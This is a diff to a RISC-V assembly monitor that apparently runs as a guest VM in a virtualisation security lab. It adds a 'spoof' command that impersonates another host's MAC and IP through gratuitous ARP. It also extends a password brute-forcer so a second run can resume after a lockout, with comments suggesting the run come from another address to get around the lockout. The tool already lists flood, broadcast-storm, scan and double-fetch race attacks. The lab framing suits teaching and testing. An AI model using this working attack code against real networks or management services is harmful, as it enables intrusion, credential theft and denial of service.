@@ -33,14 +33,18 @@
 #   dwrite SECTOR TEXT            BLK write one sector holding TEXT
 #   race LEN                      a 16-byte LOG request, then len = LEN right after the
 #                                 doorbell: the double fetch (XSA-155) if the backend reads len twice
-#   ip                            own IPv4 address (NET info) and MAC (02:00:00:00:00:<domid>)
+#   ip                            own IPv4 address (NET info) and MAC (02:00:00:00:00:<domid>),
+#                                 or the ones spoof put in their place
+#   spoof MAC [IP] / spoof off    send as another host: MAC (and IP) as the source of every
+#                                 frame from now on, announced by a gratuitous ARP
 #   arp                           the ARP cache: IP -> MAC
 #   scan                          ARP .1 to .30 of our /24: how a tenant finds the management IP
 #   ping IP [COUNT]               ICMP echo (ARP first): seq and time in instructions per reply
 #   send IP PORT TEXT             one UDP datagram from port 40000, then the answer if one comes:
 #                                 send 10.0.0.1 6230 LOGIN admin letmein  ->  reply: OK <token>
 #   listen PORT [COUNT]           print UDP datagrams to PORT until COUNT came or a key is typed
-#   brute USER [IP]               guess USER's management login (UDP 6230) from a wordlist
+#   brute USER [IP] [FIRST]       guess USER's management login (UDP 6230) from a wordlist,
+#                                 starting at its FIRST word (default 1)
 #   flood IP PORT COUNT           COUNT junk UDP requests to IP:PORT (the DoS attack); storm: the
 #   storm IP PORT COUNT           same to the Ethernet broadcast address (every port gets a copy)
 #   sendn COUNT IP PORT TEXT      send TEXT COUNT times, count the OK answers (the admin's side)
@@ -916,17 +920,61 @@ cmd_ip:
         addi sp, sp, -16
         sw   ra, 12(sp)
         call need_net
-        la   a0, msg_ip
-        call puts
-        la   t0, my_ip
-        lw   a0, 0(t0)
-        call put_ip
-        la   a0, msg_mac
-        call puts
-        la   a0, my_mac
-        call put_mac
-        call newline
+        call put_addresses
         lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
+
+# spoof MAC [IP]: send as another host. From now on every frame this monitor
+# builds carries MAC (and IP, when given) as its source, and it answers ARP,
+# ping and datagrams for them. A gratuitous ARP (a reply "IP is at MAC" to the
+# broadcast address) announces the change at once: a learning switch moves MAC
+# to our port, so frames for that MAC come to us. `spoof off` takes our own
+# addresses back (announced the same way). Nothing in a guest stops it, since
+# the guest writes its frames itself; whether they get anywhere is up to the
+# virtual switch (net.anti_spoofing).
+cmd_spoof:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        mv   s0, a0                     # argc
+        call need_net
+        li   a0, 1
+        call arg_word
+        la   a1, s_off
+        call str_eq
+        beqz a0, 1f
+        call net_init                   # our own addresses again
+        j    3f
+1:      li   a0, 1                      # parse everything before changing anything
+        call arg_mac                    # a0 = the MAC's 6 bytes
+        la   t0, my_ip
+        lw   s1, 0(t0)                  # s1 = IP: ours unless given
+        li   t0, 3
+        blt  s0, t0, 2f
+        li   a0, 2
+        call arg_ip
+        mv   s1, a0
+2:      la   a0, my_mac
+        la   a1, mac_arg                # where arg_mac left the MAC
+        li   a2, 6
+        call copy_bytes
+        la   t0, my_ip
+        sw   s1, 0(t0)
+3:      li   a0, ARP_REPLY              # arp_frame(op, eth dst, target MAC, target IP):
+        la   a1, broadcast_mac          # "my_ip is at my_mac", to everyone
+        la   a2, broadcast_mac
+        la   t0, my_ip
+        lw   a3, 0(t0)
+        call arp_frame
+        call net_send
+        la   a0, msg_sending_as         # "sending as ip IP mac MAC"
+        call puts
+        call put_addresses
+        lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
         addi sp, sp, 16
         ret
 
@@ -1146,10 +1194,12 @@ cmd_listen:
         addi sp, sp, 32
         ret
 
-# brute USER [IP]: online password guessing. LOGIN USER with every word of
-# `wordlist` against the management service at IP (default .1 of our /24),
-# port MGMT_PORT, until one answers OK: prints the password and the token.
-# A lockout (mgmt.lockout_after) or an unreachable service stops it.
+# brute USER [IP] [FIRST]: online password guessing. LOGIN USER with every
+# word of `wordlist`, from its FIRST (default 1), against the management
+# service at IP (default .1 of our /24), port MGMT_PORT, until one answers
+# OK: prints the password and the token. A lockout (mgmt.lockout_after) or an
+# unreachable service stops it; `locked out after N tries` tells where a
+# second run (from another address) would go on: FIRST = N.
 cmd_brute:
         addi sp, sp, -32
         sw   ra, 28(sp)
@@ -1164,18 +1214,26 @@ cmd_brute:
         srli t1, t1, 8
         slli t1, t1, 8
         addi s0, t1, 1
+        la   s1, wordlist               # s1 = the next word's pointer in the table
         li   t0, 3
         blt  s3, t0, 1f
         li   a0, 2
         call arg_ip
         mv   s0, a0                     # s0 = IP
+        li   t0, 4
+        blt  s3, t0, 1f
+        li   a0, 3                      # FIRST: skip the words before it
+        call arg_num
+        call wordlist_skip
+        mv   s1, a0
 1:      la   t0, target_ip
         sw   s0, 0(t0)
         li   t0, MGMT_PORT
         la   t1, target_port
         sw   t0, 0(t1)
-        la   s1, wordlist               # s1 = the next word's pointer in the table
-        li   s2, 0                      # s2 = tries
+        la   t0, wordlist               # s2 = tries so far: the words skipped
+        sub  s2, s1, t0
+        srli s2, s2, 2
 2:      lw   s3, 0(s1)                  # s3 = the password to try
         beqz s3, 7f
         addi s1, s1, 4
@@ -1243,6 +1301,21 @@ cmd_brute:
         lw   s2, 16(sp)
         lw   s3, 12(sp)
         addi sp, sp, 32
+        ret
+
+# wordlist_skip: where brute starts: the FIRST word of `wordlist` (1 is the
+# first; 0 counts as 1, past the end is the end of the list).
+# in: a0 = FIRST   out: a0 = pointer to that word's entry in the table
+wordlist_skip:
+        la   t0, wordlist
+        beqz a0, 2f
+1:      addi a0, a0, -1
+        beqz a0, 2f
+        lw   t1, 0(t0)
+        beqz t1, 2f
+        addi t0, t0, 4
+        j    1b
+2:      mv   a0, t0
         ret
 
 # flood IP PORT COUNT: send COUNT junk UDP requests to IP:PORT, one frame
@@ -1408,6 +1481,32 @@ arg_ip:
         la   a2, msg_bad_ip             # error: bad IPv4 address 'x' (like 10.0.0.1)
         la   a3, msg_bad_ip_end
         j    arg_parsed
+
+# arg_mac: argv[a0] as a MAC address, copied to mac_arg; a bad one aborts the command.
+# in: a0 = index into argv   out: a0 = mac_arg
+arg_mac:
+        la   a1, parse_mac
+        la   a2, msg_bad_mac            # error: bad MAC address 'x' (like 02:00:00:00:00:fe)
+        la   a3, msg_bad_mac_end
+        j    arg_parsed
+
+# put_addresses: "ip IP mac MAC" and a newline: the addresses we send from.
+put_addresses:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        la   a0, msg_ip
+        call puts
+        la   t0, my_ip
+        lw   a0, 0(t0)
+        call put_ip
+        la   a0, msg_mac
+        call puts
+        la   a0, my_mac
+        call put_mac
+        call newline
+        lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
 
 # rest_of_line: the text of the line after its first a0 words.
 # in: a0 = words to skip   out: a0 = string
@@ -2883,6 +2982,45 @@ parse_ip:
         li   a1, 0
         ret
 
+# parse_mac: a MAC address: six two-digit hex bytes separated by ':'
+# (02:00:00:00:00:fe), written to mac_arg.
+# in: a0 = string   out: a0 = mac_arg, a1 = 1 if it was one (0 if not)
+parse_mac:
+        la   t2, mac_arg                # t2 = where the next byte goes
+        li   t3, 6                      # t3 = bytes to go
+1:      li   t4, 0                      # t4 = this byte
+        li   t5, 2                      # t5 = its digits to go
+2:      lbu  t0, 0(a0)
+        addi t1, t0, -'0'
+        li   t6, 10
+        bltu t1, t6, 3f
+        ori  t0, t0, 0x20               # lower case
+        addi t1, t0, -'a'
+        li   t6, 6
+        bgeu t1, t6, 9f                 # not a hex digit (the NUL included)
+        addi t1, t1, 10
+3:      slli t4, t4, 4
+        or   t4, t4, t1
+        addi a0, a0, 1
+        addi t5, t5, -1
+        bnez t5, 2b
+        sb   t4, 0(t2)
+        addi t2, t2, 1
+        addi t3, t3, -1
+        lbu  t0, 0(a0)
+        beqz t3, 4f
+        li   t1, ':'
+        bne  t0, t1, 9f
+        addi a0, a0, 1
+        j    1b
+4:      bnez t0, 9f                     # nothing may follow the sixth byte
+        la   a0, mac_arg
+        li   a1, 1
+        ret
+9:      li   a0, 0
+        li   a1, 0
+        ret
+
 # put_ip: print an IPv4 address dotted.   in: a0 = address
 put_ip:
         addi sp, sp, -16
@@ -2967,12 +3105,13 @@ commands:
         .word s_dread,   cmd_dread,   1, 2,        h_dread
         .word s_dwrite,  cmd_dwrite,  2, MAX_ARGS, h_dwrite
         .word s_ip,      cmd_ip,      0, 0,        h_ip
+        .word s_spoof,   cmd_spoof,   1, 2,        h_spoof
         .word s_arp,     cmd_arp,     0, 0,        h_arp
         .word s_scan,    cmd_scan,    0, 0,        h_scan
         .word s_ping,    cmd_ping,    1, 2,        h_ping
         .word s_send,    cmd_send,    3, MAX_ARGS, h_send
         .word s_listen,  cmd_listen,  1, 2,        h_listen
-        .word s_brute,   cmd_brute,   1, 2,        h_brute
+        .word s_brute,   cmd_brute,   1, 3,        h_brute
         .word s_flood,   cmd_flood,   3, 3,        h_flood
         .word s_storm,   cmd_storm,   3, 3,        h_storm
         .word s_sendn,   cmd_sendn,   4, MAX_ARGS, h_sendn
@@ -3006,6 +3145,7 @@ s_dinfo:   .asciz "dinfo"
 s_dread:   .asciz "dread"
 s_dwrite:  .asciz "dwrite"
 s_ip:      .asciz "ip"
+s_spoof:   .asciz "spoof"
 s_arp:     .asciz "arp"
 s_scan:    .asciz "scan"
 s_ping:    .asciz "ping"
@@ -3043,13 +3183,14 @@ h_race:    .asciz "race LEN                  honest 16-byte request, then len = 
 h_dinfo:   .asciz "dinfo                     the size of our disk (BLK info)"
 h_dread:   .asciz "dread SECTOR [COUNT]      read COUNT sectors (1..8) of our disk and dump them (BLK)"
 h_dwrite:  .asciz "dwrite SECTOR TEXT        write one sector holding TEXT (BLK)"
-h_ip:      .asciz "ip                        this VM's IPv4 and MAC addresses (NET info)"
+h_ip:      .asciz "ip                        the IPv4 and MAC addresses this VM sends from (NET info)"
+h_spoof:   .asciz "spoof MAC [IP] | off      send as MAC (and IP) from now on, announced by ARP; off: our own"
 h_arp:     .asciz "arp                       the ARP cache: IP -> MAC"
 h_scan:    .asciz "scan                      ARP .1 to .30 of our network: who is there?"
 h_ping:    .asciz "ping IP [COUNT]           ICMP echo: replies with seq and time in instructions"
 h_send:    .asciz "send IP PORT TEXT         TEXT as a UDP datagram from port 40000; print the answer"
 h_listen:  .asciz "listen PORT [COUNT]       print UDP datagrams to PORT (COUNT of them, or until a key)"
-h_brute:   .asciz "brute USER [IP]           guess USER's management login from a wordlist (UDP 6230)"
+h_brute:   .asciz "brute USER [IP] [FIRST]   guess USER's management login from a wordlist (UDP 6230)"
 h_flood:   .asciz "flood IP PORT COUNT       send COUNT junk UDP requests to IP:PORT, fast"
 h_storm:   .asciz "storm IP PORT COUNT       the same flood, to the Ethernet broadcast address"
 h_sendn:   .asciz "sendn COUNT IP PORT TEXT  send TEXT COUNT times, count the answers that say OK"
@@ -3134,6 +3275,9 @@ msg_vms:           .asciz " VMs\n"
 msg_no_nic:        .asciz "error: this VM has no network interface\n"
 msg_bad_ip:        .asciz "error: bad IPv4 address '"
 msg_bad_ip_end:    .asciz "' (like 10.0.0.1)\n"
+msg_bad_mac:       .asciz "error: bad MAC address '"
+msg_bad_mac_end:   .asciz "' (like 02:00:00:00:00:fe)\n"
+msg_sending_as:    .asciz "sending as "
 msg_ip:            .asciz "ip "
 msg_mac:           .asciz " mac "
 msg_is_at:         .asciz " is at "
@@ -3165,6 +3309,7 @@ msg_dropped:       .asciz " dropped by the NIC\n"
 msg_sendn:         .asciz "sendn: "
 msg_answered_ok:   .asciz " answered OK\n"
 s_login:           .asciz "LOGIN "
+s_off:             .asciz "off"
 s_ok:              .asciz "OK"
 s_ok_space:        .asciz "OK "
 s_locked:          .asciz "ERR locked"
@@ -3234,7 +3379,8 @@ target_port: .word 0
 arp_count:  .word 0                     # entries in use
 arp_next:   .word 0                     # the entry a full cache overwrites next
 arp_cache:  .space ARP_SLOTS * ARP_ENTRY
-my_mac:     .space 8                    # 02:00:00:00:00:<domid>
+my_mac:     .space 8                    # 02:00:00:00:00:<domid>, or what spoof put there
+mac_arg:    .space 8                    # a MAC argument (parse_mac)
 text_buf:   .space MAX_TEXT + 4         # a request being put together (brute)
         .balign 4
 tx_buf:     .space NET_ETH_MAX_FRAME + 2 # the frame being sent
